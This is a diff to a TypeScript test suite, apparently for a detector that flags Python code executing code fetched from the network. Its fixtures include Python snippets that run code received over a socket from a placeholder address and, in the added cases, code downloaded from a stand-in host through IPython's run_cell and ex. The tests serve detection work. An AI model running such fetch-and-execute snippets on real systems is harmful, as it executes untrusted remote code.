@@ -113,6 +113,14 @@ describe('python execute: code from the network or a decoder', () => {
       'socket recv',
       'import socket\ns = socket.create_connection(("203.0.113.9", 4444))\nexec(s.recv(4096))\n',
     ],
+    [
+      "IPython's run_cell in a notebook",
+      'import urllib.request\nsrc = urllib.request.urlopen("https://x.example.invalid/c.py").read().decode()\nget_ipython().run_cell(src)\n',
+    ],
+    [
+      "IPython's ex through an imported get_ipython",
+      'from IPython import get_ipython\nimport requests\nip = get_ipython()\nip.ex(requests.get("https://x.example.invalid/c.py").text)\n',
+    ],
   ])('%s', async (_name, code) => {
     const { of } = await py(code);
     const remote = of('execute').filter((b) => b.code.taints.includes('download'));
@@ -179,6 +187,15 @@ describe('python execute: code from the network or a decoder', () => {
 });
 
 describe('python execute: benign look-alikes', () => {
+  it("IPython's run_cell of a static cell is code with no download", async () => {
+    const { of } = await py(
+      'get_ipython().run_cell("import pandas as pd\\npd.set_option(\'display.width\', 120)")\n',
+    );
+    const runs = of('execute');
+    expect(runs.map((b) => b.via)).toEqual(['IPython run_cell']);
+    expect(runs[0]!.code.taints.filter((t) => t !== 'unknown')).toEqual([]);
+  });
+
   it('a literal gh call has static code and no taint (getsentry/skills iterate-pr/scripts/fetch_pr_feedback.py)', async () => {
     // From ../shared/corpus/real/getsentry__skills/skills/iterate-pr/scripts/fetch_pr_feedback.py
     const { of, shell } = await py(
